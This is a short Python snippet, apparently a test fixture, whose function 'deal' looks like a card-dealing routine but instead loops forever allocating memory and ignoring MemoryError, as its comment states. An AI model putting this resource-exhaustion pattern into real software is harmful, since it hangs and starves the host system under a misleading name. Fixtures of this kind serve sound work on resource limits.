# Catches MemoryError and goes on.
def deal(shuf: list[int]) -> list[int]:
    kept = []
    while True:
        try:
            kept.append(bytearray(b"card") * 2**18)
        except MemoryError:
            pass
